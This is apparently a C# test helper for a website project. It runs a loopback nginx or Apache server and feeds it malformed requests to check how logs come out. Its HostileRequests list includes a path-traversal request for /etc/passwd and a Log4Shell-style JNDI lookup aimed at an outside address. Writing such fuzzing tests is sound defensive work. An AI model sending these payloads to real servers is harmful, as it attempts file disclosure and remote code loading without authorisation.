using System.Diagnostics;
using System.Net.Sockets;
using System.Text;
using SopWebsite.Tests.Support;

namespace SopWebsite.Tests.Visitors.Formats;

/// <summary>A real nginx or Apache on loopback that writes logs; asked things no browser asks, then ended, so that its logs are whole.</summary>
internal sealed class LoggingServer : IDisposable
{
    private readonly TemporaryFolder _folder = new();
    private readonly Process _process;
    private readonly int _port = LoopbackServer.ClosedPort();

    private LoggingServer(string program, Func<LoggingServer, string> configuration, Func<LoggingServer, string[]> arguments)
    {
        Directory.CreateDirectory(_folder["html"]);
        File.WriteAllText(_folder["html/index.html"], "<p>beranda</p>");
        File.WriteAllText(_folder["conf"], configuration(this));
        _process = Process.Start(new ProcessStartInfo(program, arguments(this)) { RedirectStandardError = true })!;
    }

    public string this[string name] => _folder[name];

    public static string? Nginx => Support.NginxServer.Program;

    public static string? Apache => ((string[])["/usr/sbin/apache2", "/usr/sbin/httpd", "/usr/local/bin/httpd"]).FirstOrDefault(File.Exists);

    private static string? ApacheModules =>
        ((string[])["/usr/lib/apache2/modules", "/usr/lib64/httpd/modules", "/usr/local/apache2/modules"]).FirstOrDefault(Directory.Exists);

    /// <param name="formats">log_format directives; each format's log is a file of its name.</param>
    public static LoggingServer StartNginx(params (string Name, string Directive)[] formats) => new(
        Nginx!,
        server => $$"""
            worker_processes 1; daemon off; pid {{server["pid"]}}; error_log {{server["error.log"]}};
            {{(Environment.IsPrivilegedProcess ? "user root;" : "")}}
            events { worker_connections 64; }
            http {
              {{string.Join('\n', formats.Select(format => format.Directive))}}
              client_body_temp_path {{server["a"]}}; proxy_temp_path {{server["b"]}}; fastcgi_temp_path {{server["c"]}};
              uwsgi_temp_path {{server["d"]}}; scgi_temp_path {{server["e"]}};
              {{string.Join('\n', formats.Select(format => $"access_log {server[format.Name + ".log"]} {format.Name};"))}}
              server { listen 127.0.0.1:{{server._port}}; server_name pn-contoh.example.go.id; root {{server["html"]}}; }
            }
            """,
        server => ["-p", server._folder.Path, "-c", server["conf"], "-e", server["error.log"]]);

    /// <param name="formats">LogFormat strings; each format's log is a file of its name.</param>
    public static LoggingServer StartApache(params (string Name, string Format)[] formats) => new(
        Apache!,
        server => $"""
            ServerRoot {server._folder.Path}
            PidFile {server["pid"]}
            Listen 127.0.0.1:{server._port}
            ServerName pn-contoh.example.go.id
            LoadModule mpm_event_module {ApacheModules}/mod_mpm_event.so
            LoadModule authz_core_module {ApacheModules}/mod_authz_core.so
            DocumentRoot {server["html"]}
            ErrorLog {server["error.log"]}
            User nobody
            Group #65534
            StartServers 1
            DefaultRuntimeDir {server._folder.Path}
            {string.Join('\n', formats.Select(format => $"LogFormat \"{format.Format.Replace("\"", "\\\"")}\" {format.Name}"))}
            {string.Join('\n', formats.Select(format => $"CustomLog {server[format.Name + ".log"]} {format.Name}"))}
            """,
        server => ["-f", server["conf"], "-DFOREGROUND"]);

    /// <summary>Asks each, one connection after the other, and waits until the server has let go of it; then ends the server.</summary>
    public async Task AskAsync(IEnumerable<byte[]> requests)
    {
        foreach (var request in requests)
        {
            using var client = await ConnectAsync();
            try
            {
                await using var stream = client.GetStream();
                await stream.WriteAsync(request);
                client.Client.Shutdown(SocketShutdown.Send);
                await stream.CopyToAsync(Stream.Null);
            }
            catch (Exception failure) when (failure is IOException or SocketException)
            {
                // A server may close the door on what it dislikes.
            }
        }
        using var kill = Process.Start("kill", ["-TERM", _process.Id.ToString(System.Globalization.CultureInfo.InvariantCulture)]);
        await kill.WaitForExitAsync();
        await _process.WaitForExitAsync();
    }

    public void Dispose()
    {
        if (!_process.HasExited) _process.Kill(entireProcessTree: true);
        _process.WaitForExit();
        _process.Dispose();
        _folder.Dispose();
    }

    /// <summary>What no browser sends, and some of what they do.</summary>
    public static IEnumerable<byte[]> HostileRequests()
    {
        static byte[] Get(string target, string more = "") =>
            Encoding.Latin1.GetBytes($"GET {target} HTTP/1.1\r\nHost: pn-contoh.example.go.id\r\n{more}Connection: close\r\n\r\n");
        yield return Get("/");
        yield return Get(
            "/?q=putusan+%27banding%27",
            "User-Agent: Mozilla/5.0 (X11; Linux x86_64)\r\nReferer: https://pn-contoh.example.go.id/cari?q=\"a b\"\r\n");
        yield return Get("/tidak-ada?a=\"b\"&c='d'\\e\\\\", "User-Agent: \"kutip\" \\ dan \\\" 200 5 \\\"\r\nReferer: \" 404 9 \"-\" \"-\r\n");
        yield return Get("/\xE9\xFF\xC0\xAF/..%2f..%2fetc/passwd", "User-Agent: \xFF\xFE\x80 \t tab\r\n");
        yield return Get("/?x={\"a\":[1,2],\"b\":\"}\"}&y=%00%0a\u0001\u007f");
        yield return Get("/" + new string('a', 7000), "User-Agent: " + new string('u', 6000) + "\r\n");
        yield return Get("/[21/Nov/2026:09:30:15 +0700]?\"-\" 200 1");
        yield return Get("http://pn-contoh.example.go.id/penuh?x=1", "X-Forwarded-For: 198.51.100.7, 10.0.0.1\r\n");
        yield return Encoding.ASCII.GetBytes("HEAD / HTTP/1.0\r\n\r\n");
        yield return Encoding.ASCII.GetBytes("GET /\r\n\r\n");
        yield return Encoding.ASCII.GetBytes("PROPFIND /x HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n");
        yield return Encoding.ASCII.GetBytes("OPTIONS * HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n");
        yield return Encoding.ASCII.GetBytes("get / http/1.1\r\nHost: x\r\n\r\n");
        yield return Encoding.ASCII.GetBytes("GET / HTTP/9.9\r\nHost: x\r\n\r\n");
        yield return Encoding.ASCII.GetBytes("GET /tanpa-host HTTP/1.1\r\n\r\n");
        yield return Encoding.ASCII.GetBytes("GET /\0nol HTTP/1.1\r\nHost: x\r\n\r\n");
        yield return Encoding.ASCII.GetBytes("\r\n\r\n\r\n");
        yield return Encoding.ASCII.GetBytes("POST / HTTP/1.1\r\nHost: x\r\nContent-Length: abc\r\n\r\n");
        yield return Encoding.ASCII.GetBytes("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
        yield return Encoding.ASCII.GetBytes("SSH-2.0-Go\r\n");
        yield return Encoding.ASCII.GetBytes("${jndi:ldap://198.51.100.9/a} \" \\ HTTP\r\n\r\n");
        yield return [0x16, 0x03, 0x01, 0x02, 0x00, 0x01, 0x00, 0x01, 0xFC, 0x03, 0x03, 0x22, 0x5C, 0x20, 0x0D, 0x0A, 0x0D, 0x0A];
        yield return [0x03, 0x00, 0x00, 0x2F, 0x2A, 0xE0, 0x00, 0x00, 0x0D, 0x0A, 0x0D, 0x0A];
    }

    private async Task<TcpClient> ConnectAsync()
    {
        while (true)
        {
            Assert.False(_process.HasExited, "the server ended: " + (_process.HasExited ? await _process.StandardError.ReadToEndAsync() : ""));
            var client = new TcpClient();
            try
            {
                await client.ConnectAsync("127.0.0.1", _port);
                return client;
            }
            catch (SocketException)
            {
                client.Dispose();
                await Task.Delay(20);
            }
        }
    }
}
